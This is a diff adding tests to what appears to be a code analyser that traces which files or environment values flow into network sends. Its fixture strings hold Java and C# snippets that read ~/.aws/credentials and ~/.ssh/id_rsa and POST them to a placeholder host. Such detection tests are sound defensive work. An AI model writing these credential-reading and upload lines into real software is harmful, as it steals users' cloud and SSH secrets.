@@ -74,3 +74,32 @@ test("many calls and strings are bounded", async () => {
   const { facts } = await read("a.lua", 'os.execute("uname")\n'.repeat(20_000));
   expect(operations(facts)).toHaveLength(200);
 });
+
+test.each([
+  [
+    "A.java",
+    'String kept = Files.readString(Path.of(System.getProperty("user.home"), ".aws", "credentials"));\nclient.send(r.POST(HttpRequest.BodyPublishers.ofString(kept)).build(), "https://a.example/x");\n',
+    "~/.aws/credentials",
+  ],
+  [
+    "B.cs",
+    'var kept = await File.ReadAllTextAsync(Path.Combine(home, ".ssh", "id_rsa"));\nawait http.PostAsync("https://a.example/x", new StringContent(kept));\n',
+    "~/.ssh/id_rsa",
+  ],
+  [
+    "D.java",
+    'String kept = Files.readString(Path.of("notes.txt"));\nString mode = System.getenv("MODE");\nclient.send(r.POST(HttpRequest.BodyPublishers.ofString(mode)).build(), "https://a.example/x");\n',
+    "",
+  ],
+])("what is sent in %s, by the names that hold it", async (path, text, wanted) => {
+  const { facts } = await read(path, text);
+  const origins = facts.flatMap((fact) =>
+    fact.kind === "operation" && fact.operation.op === "send"
+      ? fact.operation.payload.flatMap((value) => value.origins)
+      : [],
+  );
+  const shown = origins.map((each) =>
+    each.kind === "file" ? each.path : each.kind === "environment" ? "*" : each.kind,
+  );
+  expect([...new Set(shown)].join()).toBe(wanted);
+});
